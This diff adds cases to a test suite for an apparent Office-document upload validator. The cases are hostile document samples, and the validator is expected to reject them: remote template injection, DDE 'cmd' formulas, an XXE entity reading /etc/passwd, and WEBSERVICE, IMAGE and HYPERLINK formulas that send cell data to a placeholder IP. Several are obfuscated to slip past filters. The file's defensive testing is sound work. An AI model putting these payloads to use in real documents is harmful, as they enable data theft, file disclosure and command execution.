@@ -12,6 +12,8 @@ describe('a form that was sent', () => {
   it('is opened when it is one', async () => {
     expect(await codeOf(pack(WORD))).toBe('ok')
     expect(await codeOf(pack(BOOK))).toBe('ok')
+    expect(await codeOf(pack({ ...documentParts('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> PAGE  \\* MERGEFORMAT </w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>HYPERLINK \\l "_Toc1"</w:instrText></w:r><w:fldSimple w:instr=" date "/></w:p>'), 'word/media/image1.png': 'x' }))).toBe('ok')
+    expect(await codeOf(pack({ ...BOOK, 'xl/worksheets/sheet1.xml': BOOK['xl/worksheets/sheet1.xml']!.replace('</row>', '<c r="B1"><f>SUM(A1:A3)&amp;RECALL(1)</f></c></row>') }))).toBe('ok')
   })
 
   it.each([
@@ -32,6 +34,17 @@ describe('a form that was sent', () => {
     ['a formula that fetches', pack({ ...BOOK, 'xl/worksheets/sheet1.xml': BOOK['xl/worksheets/sheet1.xml']!.replace('</row>', '<c r="B1"><f>WEBSERVICE("http://192.0.2.1")</f></c></row>') }), 'form-links'],
     ['a formula that starts something', pack({ ...BOOK, 'xl/worksheets/sheet1.xml': BOOK['xl/worksheets/sheet1.xml']!.replace('</row>', "<c r=\"B1\"><f>cmd|'/c calc'!A0</f></c></row>") }), 'form-links'],
     ['a field that fetches', pack(documentParts('<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\x </w:instrText></w:r></w:p>')), 'form-links'],
+    ['a template from elsewhere, written otherwise', pack({ ...WORD, 'word/_rels/settings.xml.rels': link('Type="x/settings" Target="http://192.0.2.1/a.dotm" TargetMode="&#69;xternal"') }), 'form-links'],
+    ['a part taken in whole', pack({ ...WORD, 'word/_rels/document.xml.rels': link('Type="x/aFChunk" Target="a.xml"') }), 'form-links'],
+    ['a part of another kind', pack({ ...WORD, 'word/a.rtf': '{\\rtf1}' }), 'form-objects'],
+    ...['<w:p><w:r><w:instrText>includepicture "http://192.0.2.1"</w:instrText></w:r></w:p>', '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://192.0.2.1"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+      '<w:p><w:r><w:instrText>&#73;NCLUDETEXT x</w:instrText></w:r></w:p>', "<w:p><w:fldSimple w:instr='IMPORT x'/></w:p>", '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DATE </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>LINK x</w:instrText></w:r></w:p>', '<w:p><w:r><w:instrText>HYPERLINK "http://192.0.2.1"</w:instrText></w:r></w:p>']
+      .map((field): [string, Buffer, string] => [`a field: ${field}`, Buffer.from(pack(documentParts(field))), 'form-links']),
+    ...['<f>WEB&#83;ERVICE("http://192.0.2.1")</f>', '<f><![CDATA[WEBSERVICE("http://192.0.2.1")]]></f>', '<f>WEB<!---->SERVICE("http://192.0.2.1")</f>', '<f>_xlfn.IMAGE("http://192.0.2.1/?"&amp;A1)</f>', '<f>HYPERLINK("http://192.0.2.1/?"&amp;A1)</f>']
+      .map((formula): [string, Buffer, string] => [`a formula: ${formula}`, Buffer.from(pack({ ...BOOK, 'xl/worksheets/sheet1.xml': BOOK['xl/worksheets/sheet1.xml']!.replace('</row>', `<c r="B1">${formula}</c></row>`) })), 'form-links']),
+    ['a name that fetches', pack({ ...BOOK, 'xl/workbook.xml': BOOK['xl/workbook.xml']!.replace('</workbook>', '<definedNames><definedName name="Z">WEBSERVICE("http://192.0.2.1")</definedName></definedNames></workbook>') }), 'form-links'],
+    ['a sheet that lies elsewhere', pack({ ...BOOK, 'elsewhere/sheet9.xml': '<worksheet><f>WEBSERVICE("http://192.0.2.1")</f></worksheet>' }), 'form-links'],
+    ['a part that is not well-formed', pack({ ...WORD, 'docProps/custom.xml': '<a>' }), 'form-not-office'],
     ['entities', pack({ ...WORD, 'word/document.xml': WORD['word/document.xml']!.replace('<w:document', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document') }), 'form-entities'],
     ['entities in a part that is not filled', pack({ ...WORD, 'docProps/custom.xml': '<!DOCTYPE a><a/>' }), 'form-entities'],
     ['another encoding', pack({ ...WORD, 'docProps/app.xml': Buffer.from('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>', 'utf16le') }), 'form-encoding'],
